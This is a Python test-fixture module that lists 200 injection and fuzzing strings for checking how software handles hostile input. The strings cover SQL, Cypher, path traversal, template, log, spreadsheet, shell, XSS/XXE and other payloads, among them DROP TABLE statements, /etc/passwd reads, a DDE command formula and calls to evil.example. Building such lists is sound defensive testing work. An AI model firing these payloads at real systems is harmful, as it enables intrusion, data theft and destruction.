"""Two hundred texts that would do harm where a text is taken for something else."""

from __future__ import annotations

_SQL = [
    "'", '"', "';", "' --", "\" --", "') --", "' OR '1'='1", "' OR 1=1 --", "1 OR 1=1",
    "1; DROP TABLE fact; --", "'; DROP TABLE record; --", "'; DELETE FROM ledger; --",
    "'; UPDATE record SET current = 0; --", "'; INSERT INTO batch DEFAULT VALUES; --",
    "' UNION SELECT name, sql FROM sqlite_master --", "' UNION SELECT value FROM secret --",
    "1 UNION SELECT NULL, NULL, NULL", "'; ATTACH DATABASE '/tmp/x.db' AS x; --",
    "'; PRAGMA writable_schema = 1; --", "'; VACUUM INTO '/tmp/x.db'; --",
    "'||(SELECT randomblob(1000000000))||'", "' AND 1=load_extension('/tmp/x.so') --",
    "x' COLLATE NOCASE --", "%27%20OR%201%3D1", "\\'; SELECT 1; --", "' AND sleep(10) --",
    "'; SELECT pg_sleep(10); --", "1'1", "/**/OR/**/1=1", "admin'--", "`id`", "[id]", "$$x$$",
    "?1", ":id", "@id", "' GROUP BY 1 HAVING 1=1 --", "' ORDER BY 99 --", "' LIMIT 1 OFFSET 9 --",
    "0x27204f5220313d31",
]  # fmt: skip
_CYPHER = [
    "'}) DETACH DELETE (n) //", "\"}) DETACH DELETE n //", "`) DETACH DELETE (n) //",
    "' MATCH (n) DETACH DELETE n //", "x'}) RETURN n UNION MATCH (m) RETURN m //",
    "'] SET n.admin = true //", "}) MERGE (:Owned) //", "' CALL dbms.listConfig() YIELD name //",
    "' LOAD CSV FROM 'http://127.0.0.1:9/x' AS l RETURN l //", "\\u0027}) DELETE n //",
    "' CALL apoc.load.json('file:///etc/passwd') //", "$param", "{id: 1}", "(n)-[r]->(m)",
    "' WITH 1 AS x MATCH (n) REMOVE n.key //", "' DROP CONSTRAINT record_name //",
    "' CALL db.labels() //", "' FOREACH (x IN [1] | CREATE (:X)) //", "*1..", "' RETURN 1 //",
    "n:Company|Person", "`Company`", "' CREATE USER x SET PASSWORD 'y' //", "' SHOW USERS //",
    "' TERMINATE TRANSACTIONS '*' //",
]  # fmt: skip
_PATH = [
    "../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd",
    "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc%c0%afpasswd", "/proc/self/environ", "/dev/zero", "/dev/stdin", "~/.ssh/id",
    "C:\\boot.ini", "\\\\host\\share", "./.env", "facts.db", "../facts.db.keys", "nul", "con.txt",
    "a/../../b", "?/../x", "#/../x", "//evil.example/x", "sqlite:///etc/passwd",
    "neo4j://127.0.0.1:9",
]  # fmt: skip
_TEMPLATE = [
    "{{7919*6841}}", "${7919*6841}", "#{7919*6841}", "<%= 7919*6841 %>", "{%print(7919*6841)%}",
    "${{7919*6841}}",
    "{{config}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{self}}", "{0}", "{}", "{x!r}",
    "{0.__class__.__init__.__globals__}", "%s%s%s%n", "%(x)s", "%n%n%n", "$(7919*6841)",
    "[[7919*6841]]",
    "@(7919*6841)", "{{request.application.__globals__}}",
]  # fmt: skip
_LOG = [
    "x\nERROR root: all is lost", "x\r\nSet-Cookie: a=b", "x\r\n\r\n<html>", "x\u2028y", "x\u2029y",
    "x\u0085y", "\x1b[2J\x1b[31mred", "\x00", "a\x00b", "\x07\x08\x7f", "\u202egnp.exe", "\ufeffx",
    "\u200b\u200c\u200d", "%0d%0aSet-Cookie:%20a=b", "${jndi:ldap://127.0.0.1:9/x}", "\ud7ff\ue000",
    "e\u0301" * 50, "\U0001f600", "ﷺ" * 100, "x" * 5000,
]  # fmt: skip
_SHEET = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://evil.example\")", "=IMPORTXML(\"http://evil.example\",\"//a\")", "＝1+1",
    "＋1", "－1", "＠SUM(1)", '"=1+1"', "',=1+1", "=DDE(\"x\";\"y\")", "\x00=1+1", ";=1+1",
]  # fmt: skip
_SHELL = [
    "; id", "| id", "&& id", "`id`;", "$(id)", "|| sleep 9", "\nid\n", "& ping 127.0.0.1 &",
    "--help", "--store=/tmp/x", "-rf /", "<(id)", ">/tmp/x", "a;b", "*",
]  # fmt: skip
_PAGE = [
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg/onload=alert(1)>",
    "javascript:alert(1)", "</script><script>alert(1)</script>", "<!--", "]]>", "&lt;script&gt;",
    "<iframe src=//evil.example>", "data:text/html,<script>alert(1)</script>", "<a href=\"x\">",
    "expression(alert(1))", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'"
    ">]><x>&a;</x>", "<xi:include href='/etc/passwd'/>", "<!ENTITY % x SYSTEM 'http://127.0.0.1:9'>",
]  # fmt: skip
_ELSE = [
    "*)(uid=*))(|(uid=*", "{\"$gt\": \"\"}", "[]", "[{}]", "null", "true", "NaN", "Infinity", "-0",
    "1e400", "9" * 400, "-9223372036854775809", "0x7fffffff", "1_000", "١٢٣", "__proto__",
    "constructor", "__class__", "http://169.254.169.254/latest/meta-data/", "http://[::1]:9/",
]  # fmt: skip
PAYLOADS = [*_SQL, *_CYPHER, *_PATH, *_TEMPLATE, *_LOG, *_SHEET, *_SHELL, *_PAGE, *_ELSE]
assert len(PAYLOADS) == len({*PAYLOADS}) == 200, (len(PAYLOADS), len({*PAYLOADS}))
